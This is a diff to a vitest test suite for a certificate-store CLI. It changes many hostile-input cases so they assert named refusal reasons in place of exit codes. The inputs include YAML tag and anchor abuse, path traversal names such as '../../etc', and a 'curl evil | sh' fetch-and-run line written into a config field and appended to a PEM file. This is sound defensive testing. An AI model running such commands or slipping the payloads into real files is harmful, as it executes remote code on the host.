@@ -1,8 +1,8 @@
 /**
  * The bad-input corpus: hostile and careless input, as an adversarial user
- * would try it, through the real CLIs. Every case asserts the exit code; that
- * the message names the file (and the field, where there is one) and says what
- * to do; no stack trace; no secret, not even part of an identity, in any
+ * would try it, through the real CLIs. Every case asserts the reason on the
+ * error line and its exit code; that the message names the file (and the field,
+ * where there is one) and says what to do; no stack trace; no secret, not even part of an identity, in any
  * output; and a store byte-identical afterwards.
  *
  * Edited records (leaves.yaml, state.yaml, evidence, ledgers), deploy-target
@@ -16,7 +16,17 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { generateHybridIdentity, identityToRecipient } from 'age-encryption';
 import { newIdentity, parseCertificate } from '@trellis/core';
 import { FakeMesh } from './helpers/fake-mesh.js';
-import { ROOT_BIN, baseEnv, tool, trellisCi, trellisRoot, type Env, type Run } from './helpers/cli.js';
+import {
+  ROOT_BIN,
+  baseEnv,
+  expectRefused,
+  tool,
+  trellisCi,
+  trellisRoot,
+  type Env,
+  type Reason,
+  type Run,
+} from './helpers/cli.js';
 import { snapshotStore } from './helpers/store-hash.js';
 import { at, DAY, RUN_NOW, fakedClockEnv, plus } from './helpers/clock.js';
 
@@ -63,12 +73,13 @@ interface Case {
   /** Damage done to the copy of the store before the run (the snapshot is taken after it). */
   damage?: (m: FakeMesh, scratch: string) => void | Promise<void>;
   env?: (m: FakeMesh, scratch: string) => Env;
-  code: number;
+  /** Why it is refused: the error line names it, and the exit code is the table's for it. */
+  reason: Reason;
   /** The file the message must name (a store-relative path, or any text that names it). */
   file: string;
   /** The field, when the input has one. */
   field?: string;
-  /** Something the message must say. */
+  /** Something the message must say, where the reason alone does not tell the case apart. */
   says?: RegExp;
   /** Run without the prepared --store (the case gives its own). */
   bare?: boolean;
@@ -114,7 +125,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', `${lol}\n${scope('  api: {}\n')}`),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'a',
       says: /anchor/,
@@ -126,7 +137,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', scope('  api: &x {}\n  web: *x\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api',
       says: /anchors and aliases/,
@@ -138,7 +149,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', 'kind: !!js/function "function () { return 1 }"\nservices: {}\n'),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'kind',
       says: /tag/,
@@ -150,7 +161,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', scope('  api: !service {}\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api',
       says: /tag/,
@@ -162,7 +173,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', api('    ttl: !!binary aGVsbG8=\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.ttl',
       says: /tag/,
@@ -174,7 +185,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', api(`    dns: ${'['.repeat(40)}${']'.repeat(40)}\n`)),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       says: /nested deeper than 32/,
     },
@@ -185,7 +196,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', `kind: region\nservices: ${'['.repeat(50_000)}${']'.repeat(50_000)}\n`),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       says: /not valid YAML/,
     },
@@ -196,7 +207,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', big(70_000)),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       says: /over the limit of 4194304/,
     },
@@ -207,7 +218,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', scope('  api: {}\n  web: {}\n  api:\n    ttl: 1d\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api',
       says: /duplicate key/,
@@ -219,7 +230,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', 'kind: region\nkind: global\nservices: {}\n'),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'kind',
       says: /duplicate key/,
@@ -231,7 +242,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', '- kind: region\n- services: {}\n'),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       says: /must be a mapping/,
     },
@@ -242,14 +253,21 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', 'region\n'),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       says: /must be a mapping/,
     },
   ],
   [
     'an empty scope file is refused for its missing kind',
-    { cli: 'ci', args: renew, damage: onScope('us-east-1', ''), code: 2, file: 'scopes/us-east-1.yaml', field: 'kind' },
+    {
+      cli: 'ci',
+      args: renew,
+      damage: onScope('us-east-1', ''),
+      reason: 'bad-scope',
+      file: 'scopes/us-east-1.yaml',
+      field: 'kind',
+    },
   ],
   [
     'binary junk as a scope file is refused',
@@ -261,7 +279,7 @@ const CASES: [string, Case][] = [
           m.path('scopes/us-east-1.yaml'),
           Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0xff, 0xfe, 10]),
         ),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       says: /not a text file/,
     },
@@ -280,7 +298,7 @@ const CASES: [string, Case][] = [
             Buffer.from(': {}\n'),
           ]),
         ),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       says: /not UTF-8/,
     },
@@ -291,7 +309,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', 'kind: region\nservices: [api]\n'),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services',
       says: /must be a mapping/,
@@ -303,7 +321,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', scope('  api: yes\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api',
       says: /must be a mapping/,
@@ -315,7 +333,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => m.write('scopes/ap-south-1.yml', scope('  api: {}\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/ap-south-1.yml',
       says: /rename it/,
     },
@@ -328,7 +346,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('US-East-2', scope('  api: {}\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/US-East-2.yaml',
       says: /not a scope name/,
     },
@@ -339,7 +357,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('a'.repeat(64), scope('  api: {}\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: `scopes/${'a'.repeat(64)}.yaml`,
       says: /not a scope name/,
     },
@@ -350,7 +368,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us.east', scope('  api: {}\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us.east.yaml',
       says: /not a scope name/,
     },
@@ -361,7 +379,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', scope('  API: {}\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.API',
       says: /not a service name/,
@@ -373,7 +391,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', scope('  ../../etc: {}\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.../../etc',
       says: /not a service name/,
@@ -385,7 +403,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', scope(`  ${'s'.repeat(64)}: {}\n`)),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       says: /not a service name/,
     },
@@ -396,7 +414,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', scope(`  ${'s'.repeat(50)}: {}\n`)),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       says: /longer than 64 characters/,
     },
@@ -407,7 +425,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('global', 'kind: region\nservices: {}\n'),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/global.yaml',
       field: 'kind',
       says: /reserved for the global scope/,
@@ -419,7 +437,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('world', 'kind: global\nservices: {}\n'),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/world.yaml',
       field: 'kind',
       says: /only scopes\/global.yaml may be kind: global/,
@@ -431,7 +449,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', 'kind: global\nservices:\n  api: {}\n'),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'kind',
     },
@@ -442,7 +460,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', 'kind: planet\nservices: {}\n'),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'kind',
       says: /must be one of global, region/,
@@ -453,9 +471,8 @@ const CASES: [string, Case][] = [
     {
       cli: 'ci',
       args: ['renew', '--scope', '../us-east-1', '--now', T0, '--now-ahead'],
-      code: 2,
+      reason: 'unknown-scope',
       file: 'scopes/',
-      says: /no scope/,
     },
   ],
   [
@@ -463,9 +480,8 @@ const CASES: [string, Case][] = [
     {
       cli: 'root',
       args: ['intermediate', '../../etc', '--now', T0, '--now-ahead'],
-      code: 2,
+      reason: 'unknown-scope',
       file: 'scopes/',
-      says: /no scope/,
     },
   ],
   [
@@ -473,9 +489,8 @@ const CASES: [string, Case][] = [
     {
       cli: 'ci',
       args: ['revoke', '../global/control', '--now', T0, '--now-ahead'],
-      code: 2,
+      reason: 'usage',
       file: '../global/control',
-      says: /not SCOPE\/SERVICE|no scope/,
     },
   ],
 
@@ -486,7 +501,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api('    dns: ["*.api.us-east-1.mesh.example"]\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.dns[0]',
       says: /wildcard/,
@@ -498,7 +513,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api('    dns: [10.0.0.1]\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.dns[0]',
       says: /IP address/,
@@ -510,7 +525,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api('    dns: ["fd00::1"]\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.dns[0]',
       says: /IP address/,
@@ -522,7 +537,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api('    ip: [10.0.0.1]\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.ip',
       says: /unknown key/,
@@ -534,7 +549,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api('    dns: [api.eu-west-1.mesh.example]\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.dns[0]',
       says: /outside the scope's name constraints/,
@@ -546,7 +561,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api('    dns: [login.bank.example]\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.dns[0]',
       says: /outside the scope's name constraints/,
@@ -558,7 +573,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api('    dns: [mesh.example]\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.dns[0]',
       says: /outside/,
@@ -570,7 +585,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api('    dns: [API.us-east-1.mesh.example]\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.dns[0]',
       says: /lower-case DNS name/,
@@ -582,7 +597,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api(`    dns: [${'a.'.repeat(140)}us-east-1.mesh.example]\n`)),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.dns[0]',
       says: /lower-case DNS name/,
@@ -594,7 +609,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api('    dns: api.us-east-1.mesh.example\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.dns',
       says: /must be a list/,
@@ -608,7 +623,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', api('    ttl: 0d\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.ttl',
       says: /not a duration/,
@@ -620,7 +635,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', api('    ttl: -7d\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.ttl',
       says: /not a duration/,
@@ -632,7 +647,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: onScope('us-east-1', api('    ttl: 300000y\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.ttl',
       says: /longer than 100 years/,
@@ -644,7 +659,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', api('    ttl: 1e400d\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.ttl',
       says: /not a duration/,
@@ -656,7 +671,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', api(`    ttl: ${'9'.repeat(400)}d\n`)),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.ttl',
       says: /not a duration/,
@@ -668,7 +683,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: onScope('us-east-1', api('    ttl: 86400\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.ttl',
       says: /must be a duration/,
@@ -680,7 +695,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewUsEast,
       damage: onScope('us-east-1', api('    ttl: 4y\n')),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.ttl',
       says: /longer than 398d/,
@@ -695,7 +710,7 @@ const CASES: [string, Case][] = [
         editConfig(m, 'intermediate: 3y', 'intermediate: 300000y');
         m.writeScope('ap-south-1', ['api']);
       },
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'defaults.ttl.intermediate',
       says: /longer than 100 years/,
@@ -710,7 +725,7 @@ const CASES: [string, Case][] = [
         editConfig(m, 'intermediate: 3y', 'intermediate: 20y');
         m.writeScope('ap-south-1', ['api']);
       },
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'defaults.ttl.intermediate',
       says: /longer than 10y/,
@@ -726,9 +741,8 @@ const CASES: [string, Case][] = [
         await m.root(['confirm', '--now', T0]);
         m.writeScope('ap-south-1', ['api']);
       },
-      code: 1,
+      reason: 'outlives-issuer',
       file: 'bundles/root/root.pem',
-      says: /would outlive its issuer/,
     },
   ],
   [
@@ -737,7 +751,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewForce,
       damage: (m) => editConfig(m, 'leaf: 72h', 'leaf: 30d'),
-      code: 3,
+      reason: 'custody-policy-unconfirmed',
       file: 'trellis.yaml',
       field: 'defaults.crl.leaf',
       says: /3d → 30d/,
@@ -752,7 +766,7 @@ const CASES: [string, Case][] = [
         editConfig(m, 'intermediate: 3y', 'intermediate: 1y');
         m.writeScope('ap-south-1', ['api']);
       },
-      code: 3,
+      reason: 'custody-policy-unconfirmed',
       file: 'trellis.yaml',
       field: 'defaults.ttl.intermediate',
       says: /3y → 1y/,
@@ -764,7 +778,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, 'leaf: 72h', 'leaf: 50y'),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'defaults.crl.leaf',
       says: /longer than 30d/,
@@ -776,7 +790,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, 'trustDomain: mesh.example', `trustDomain: ${'a'.repeat(70)}.example`),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'trustDomain',
     },
@@ -790,7 +804,7 @@ const CASES: [string, Case][] = [
         'us-east-1',
         api(`    dns:\n${Array.from({ length: 101 }, (_, i) => `      - n${i}.us-east-1.mesh.example\n`).join('')}`),
       ),
-      code: 2,
+      reason: 'bad-scope',
       file: 'scopes/us-east-1.yaml',
       field: 'services.api.dns',
       says: /more than 100/,
@@ -802,7 +816,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, 'leaf: 7d', 'leaf: 1e400d'),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'defaults.ttl.leaf',
       says: /not a duration/,
@@ -813,7 +827,7 @@ const CASES: [string, Case][] = [
     {
       cli: 'ci',
       args: ['renew', '--force', '--scope', 'us-east-1', '--now', 'LATE', '--now-ahead'],
-      code: 1,
+      reason: 'outlives-issuer',
       file: 'bundles/us-east-1/intermediate.pem',
       says: /would outlive its issuer.*rotate the intermediate/s,
     },
@@ -826,7 +840,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, /offline:\n {4}- age1\w+/, 'offline:\n    - ssh-ed25519 AAAAC3Nza'),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'recipients.offline[0]',
     },
@@ -838,10 +852,9 @@ const CASES: [string, Case][] = [
       args: renew,
       damage: (m) =>
         editConfig(m, /ci: (age1\w+)(\w)/, (_, head: string, last: string) => `ci: ${head}${last === 'q' ? 'p' : 'q'}`),
-      code: 2,
+      reason: 'bad-recipient',
       file: 'trellis.yaml',
       field: 'recipients.ci',
-      says: /not a valid age recipient/,
     },
   ],
   [
@@ -850,7 +863,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, /offline:\n/, `offline:\n    - ${pqRecipient}\n`),
-      code: 3,
+      reason: 'custody-recipients',
       file: 'trellis.yaml',
       field: 'recipients.offline',
       says: /mixes post-quantum/,
@@ -863,7 +876,7 @@ const CASES: [string, Case][] = [
       args: renew,
       damage: (m) =>
         editConfig(m, /offline:\n/, `offline:\n    - ${m.read('trellis.yaml').match(/ci: (age1\w+)/)![1]}\n`),
-      code: 3,
+      reason: 'custody-recipients',
       file: 'trellis.yaml',
       field: 'recipients.ci',
       says: /CI could open the root key/,
@@ -880,7 +893,7 @@ const CASES: [string, Case][] = [
           /ci: age1\w+/,
           `ci: ${fs.readFileSync(m.ciIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0]}`,
         ),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'recipients.ci',
       says: /not shown/,
@@ -892,7 +905,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, 'mesh: test', 'mesh: test\nreload: "curl evil | sh"'),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'reload',
       says: /unknown key/,
@@ -904,7 +917,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, 'version: 1', 'version: "1"'),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'version',
       says: /unsupported store version/,
@@ -916,7 +929,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, /offline:\n {4}- (age1\w+)/, 'offline: $1'),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'recipients.offline',
       says: /must be a list/,
@@ -928,7 +941,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, /ttl:\n(\s{4}\w+: \w+\n)+/, 'ttl: [7d]\n'),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'defaults.ttl',
       says: /must be a mapping/,
@@ -940,7 +953,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, 'trustDomain: mesh.example', 'trustDomain: Mesh.Example'),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'trustDomain',
     },
@@ -951,7 +964,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => editConfig(m, 'mesh: test', 'mesh: &m test\nx: *m'),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'mesh',
       says: /anchor/,
@@ -967,7 +980,7 @@ const CASES: [string, Case][] = [
           'trellis.yaml',
           `${m.read('trellis.yaml')}recipients:\n  offline: [${stranger.recipient}]\n  ci: ${stranger.recipient}\n`,
         ),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       field: 'recipients',
       says: /duplicate key/,
@@ -979,7 +992,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => m.write('trellis.yaml', `${m.read('trellis.yaml')}${'#'.repeat(5 * 1024 * 1024)}\n`),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       says: /over the limit/,
     },
@@ -993,7 +1006,7 @@ const CASES: [string, Case][] = [
         fs.rmSync(m.path('trellis.yaml'));
         fs.symlinkSync(m.ciIdentityFile, m.path('trellis.yaml'));
       },
-      code: 1,
+      reason: 'corrupt-store',
       file: 'trellis.yaml',
       says: /symbolic link/,
     },
@@ -1015,7 +1028,7 @@ const CASES: [string, Case][] = [
           m.path('trellis.yaml'),
         );
       },
-      code: 1,
+      reason: 'corrupt-store',
       file: 'trellis.yaml',
       says: /symbolic link/,
     },
@@ -1026,7 +1039,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renew,
       damage: (m) => fs.writeFileSync(m.path('trellis.yaml'), Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])),
-      code: 2,
+      reason: 'bad-config',
       file: 'trellis.yaml',
       says: /not a text file/,
     },
@@ -1035,14 +1048,14 @@ const CASES: [string, Case][] = [
   // --now.
   [
     '--now yesterday is refused',
-    { cli: 'ci', args: ['renew', '--now', 'yesterday'], code: 2, file: '--now', says: /not an RFC 3339 timestamp/ },
+    { cli: 'ci', args: ['renew', '--now', 'yesterday'], reason: 'bad-time', file: '--now' },
   ],
   [
     '--now 2026-02-30 is refused, not rolled into March',
     {
       cli: 'ci',
       args: ['renew', '--now', '2026-02-30T00:00:00Z'],
-      code: 2,
+      reason: 'bad-time',
       file: '--now',
       says: /day that does not exist/,
     },
@@ -1052,23 +1065,27 @@ const CASES: [string, Case][] = [
     {
       cli: 'root',
       args: ['crl', '--now', T0.replace(/Z$/, ''), '--now-ahead'],
-      code: 2,
+      reason: 'bad-time',
       file: '--now',
-      says: /not an RFC 3339 timestamp/,
     },
   ],
   [
     '--now before 1970 is refused',
-    { cli: 'ci', args: ['renew', '--now', '1969-07-20T20:17:00Z'], code: 2, file: '--now', says: /before 1970/ },
+    {
+      cli: 'ci',
+      args: ['renew', '--now', '1969-07-20T20:17:00Z'],
+      reason: 'bad-time',
+      file: '--now',
+      says: /before 1970/,
+    },
   ],
   [
     '--now in the year 10000 is refused',
     {
       cli: 'root',
       args: ['crl', '--now', '10000-01-01T00:00:00Z'],
-      code: 2,
+      reason: 'bad-time',
       file: '--now',
-      says: /not an RFC 3339 timestamp/,
     },
   ],
   [
@@ -1076,7 +1093,7 @@ const CASES: [string, Case][] = [
     {
       cli: 'ci',
       args: ['renew', '--force', '--now', at(T0, -21 * DAY)],
-      code: 2,
+      reason: 'bad-time',
       file: 'bundles/',
       says: /before .* became valid/,
     },
@@ -1086,9 +1103,8 @@ const CASES: [string, Case][] = [
     {
       cli: 'ci',
       args: ['renew', '--force', '--scope', 'us-east-1', '--now', 'EXPIRED', '--now-ahead'],
-      code: 1,
+      reason: 'issuer-expiring',
       file: 'bundles/us-east-1/intermediate.pem',
-      says: /expired/,
     },
   ],
   [
@@ -1096,7 +1112,7 @@ const CASES: [string, Case][] = [
     {
       cli: 'ci',
       args: ['revoke', 'us-east-1/api', '--now', at(T0, -21 * DAY)],
-      code: 2,
+      reason: 'bad-time',
       file: 'bundles/us-east-1/intermediate.pem',
       says: /before .* became valid/,
     },
@@ -1106,9 +1122,8 @@ const CASES: [string, Case][] = [
     {
       cli: 'root',
       args: ['crl', '--now', at(T0, -DAY)],
-      code: 3,
+      reason: 'custody-clock-behind',
       file: 'bundles/root/ledger.jsonl',
-      says: /earlier than the newest root ledger entry/,
     },
   ],
   [
@@ -1116,9 +1131,8 @@ const CASES: [string, Case][] = [
     {
       cli: 'root',
       args: ['crl', '--now', 'ROOT_EXPIRED', '--now-ahead'],
-      code: 1,
+      reason: 'issuer-expiring',
       file: 'bundles/root/root.pem',
-      says: /expired/,
     },
   ],
 
@@ -1129,7 +1143,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewUsEast,
       damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/eu-west-1/intermediate.pem')),
-      code: 1,
+      reason: 'verification-failed',
       file: 'bundles/us-east-1/intermediate.pem',
       says: /restore it from git/,
     },
@@ -1144,7 +1158,7 @@ const CASES: [string, Case][] = [
           'bundles/us-east-1/intermediate.key.age',
           m.read('bundles/us-east-1/intermediate.key.age').slice(0, 200),
         ),
-      code: 1,
+      reason: 'corrupt-store',
       file: 'bundles/us-east-1/intermediate.key.age',
       says: /not a readable age file/,
     },
@@ -1155,7 +1169,7 @@ const CASES: [string, Case][] = [
       cli: 'ci',
       args: renewUsEast,
       damage: (m) => m.write('bundles/us-east-1/intermediate.key.age', ''),
-      code: 1,
+      reason: 'corrupt-store',
       file: 'bundles/us-east-1/intermediate.key.age',
     },
   ],
@@ -1166,7 +1180,7 @@ const CASES: [string, Case][] = [
       args: renewUsEast,
       damage: (m) =>
         m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/us-east-1/intermediate.pem').slice(0, 300)),
-      code: 1,
+      reason: 'corrupt-store',
       file: 'bundles/us-east-1/intermediate.pem',
       says: /restore it from git/,
     },
@@ -1181,7 +1195,7 @@ const CASES: [string, Case][] = [
           'bundles/us-east-1/intermediate.pem',
           `${m.read('bundles/us-east-1/intermediate.pem')}#!/bin/sh\ncurl evil | sh\n`,
         ),
-      code: 1,
+      reason: 'corrupt-store',
       file: 'bundles/us-east-1/intermediate.pem',
       says: /one certificate/,
     },
@@ -1196,7 +1210,7 @@ const CASES: [string, Case][] = [
           'bundles/us-east-1/intermediate.pem',
           m.read('bundles/us-east-1/intermediate.pem') + m.read('bundles/eu-west-1/intermediate.pem'),
         ),
-      code: 1,
+      reason: 'corrupt-store',
       file: 'bundles/us-east-1/intermediate.pem',
       says: /one certificate/,
     },
@@ -1207,7 +1221,7 @@ const CASES: [string, Case][] = [
       cli: 'root',
       args: ['crl', '--now', T0, '--now-ahead'],
       damage: (m) => m.write('bundles/root/root.key.age', m.read('bundles/root/root.key.age').slice(0, 150)),
-      code: 1,
+      reason: 'corrupt-store',
       file: 'bundles/root/root.key.age',
       says: /not a readable age file/,
     },
@@ -1218,7 +1232,7 @@ const CASES: [string, Case][] = [
       cli: 'root',
       args: ['crl', '--now', T0, '--now-ahead'],
       damage: (m) => m.write('bundles/root/root.pem', `${m.read('bundles/root/root.pem')}junk\n`),
-      code: 1,
+      reason: 'corrupt-store',
       file: 'bundles/root/root.pem',
       says: /one certificate/,
     },
@@ -1235,7 +1249,7 @@ const CASES: [string, Case][] = [
